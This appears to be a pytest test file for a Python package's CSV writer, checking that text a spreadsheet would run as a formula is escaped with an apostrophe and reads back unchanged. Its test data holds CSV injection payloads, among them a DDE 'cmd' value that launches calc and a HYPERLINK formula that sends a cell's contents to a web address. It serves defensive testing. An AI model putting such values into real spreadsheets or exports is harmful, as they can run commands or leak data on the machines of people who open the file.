"""Every CSV file of the package: text that a spreadsheet would run stays text, and everything reads back."""

import ast
import csv
import datetime
import io
from pathlib import Path

import numpy as np
import pytest

import jaxdp
from jaxdp._base import csv_files
from jaxdp.ask.coefficients import Coefficients
from jaxdp.ask.graph import GraphAnswer
from jaxdp.discovery import graph_from_dict, read_graph
from jaxdp.discovery.graph import Decision
from jaxdp.simulate.engine import results

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://e.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'=1+1",
)
PLAIN = ("", "dose", "age, years", "a=b", "x-1", 'say "no"', "two\nlines", " =1", "é")


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def write_files(folder, files):
    for name, (writer, *what) in files.items():
        writer(folder / name, *what)


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_escaped_and_read_back(text):
    assert csv_files.cell(text) == "'" + text
    assert csv_files.text(read(csv_files.lines([text], [[text]]))[1][0]) == text
    assert read(csv_files.lines([text], []))[0][0].startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_as_it_is(text):
    assert csv_files.cell(text) == text
    assert csv_files.text(text) == text


@pytest.mark.parametrize("value", [-1, -0.25, -1e-7, 0.5, True, False, np.float64(-2.5), np.int32(-3), float("-inf")])
def test_numbers_are_no_text(value):
    assert read(csv_files.lines(["a"], [[value]]))[1] == [str(value)]
    assert csv_files.cell(None) is None


def test_only_one_place_writes_csv():
    root = Path(jaxdp.__file__).parent
    writers = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv", "savetxt")
        if not (node.attr == "to_csv" and isinstance(node.value, ast.Name) and node.value.id == "ledger")
    }
    assert writers == {"_base/csv_files.py"}


def assert_safe(path, *names):
    """No cell of the file begins a formula unless it is a number; the names are there once the escape is taken off."""
    cells = [cell for row in read(path.read_bytes().decode()) for cell in row]
    for cell in cells:
        if cell.startswith(csv_files.FORMULA_STARTS):
            float(cell)
    found = {csv_files.text(cell) for cell in cells}
    assert set(names) <= found


def test_the_ledger(tmp_path):
    ledger = jaxdp.Ledger.create(tmp_path / "l.db", epsilon=9.0)
    for name in FORMULAS[:3]:
        ledger.charge(name, jaxdp.Cost(epsilon=0.5), jaxdp.fresh_key())
    ledger.to_csv(tmp_path / "ledger.csv")
    assert_safe(tmp_path / "ledger.csv", *FORMULAS[:3])
    assert {name.lstrip("'") for name in FORMULAS[:3]} == {row.method for row in ledger.rows()}


def graph_of(names):
    return graph_from_dict({"names": list(names), "directed": [list(names[:2])], "undirected": [list(names[1:3])]})


def test_the_edges_and_the_graph(tmp_path):
    import dataclasses

    names = FORMULAS[:4]
    decisions = (Decision(0, 1, (2,), False, -0.25, 0.1), Decision(1, 2, (), True, None, None))
    graph = dataclasses.replace(graph_of(names), decisions=decisions)
    write_files(tmp_path, GraphAnswer(graph, 9, "").written())
    assert_safe(tmp_path / "edges.csv", names[0], names[1], names[2])
    line = read((tmp_path / "edges.csv").read_text())[1]
    assert line[3:] == ["True", "False", "-0.25", "0.1", "", "", "", ""]
    again = read_graph(tmp_path / "graph.json")
    assert again.names == names
    assert np.array_equal(again.cpdag, graph.cpdag)


def test_the_table_of_simulations(tmp_path):
    lines = [{"method": name, "design": name, "n": 10, "low": -0.5, "columns": {"=a": [1]}} for name in FORMULAS]
    results.write_csv(tmp_path, "results.csv", [*lines, {"method": "m", "=extra": 1}])
    assert_safe(tmp_path / "results.csv", *FORMULAS, "=extra")
    assert read((tmp_path / "results.csv").read_text())[-1][0] == "m"


def test_the_matrix_of_coefficients(tmp_path):
    names = list(FORMULAS[:4])
    found = [{"x": names[0], "y": names[1], "mic": -0.25}]
    write_files(tmp_path, Coefficients(tuple(names), found, np.eye(4), None, "release", "m", {}).written())
    assert_safe(tmp_path / "matrix.csv", *names)
    assert_safe(tmp_path / "top_pairs.csv", *names[:2])
    header, first = read((tmp_path / "matrix.csv").read_text())[:2]
    assert header[1:] == [csv_files.cell(name) for name in names]
    assert float(first[1]) == 1.0


def test_other_values_are_written_by_their_text():
    assert read(csv_files.lines(["when"], [[datetime.date(2026, 1, 2)]])) == [["when"], ["2026-01-02"]]
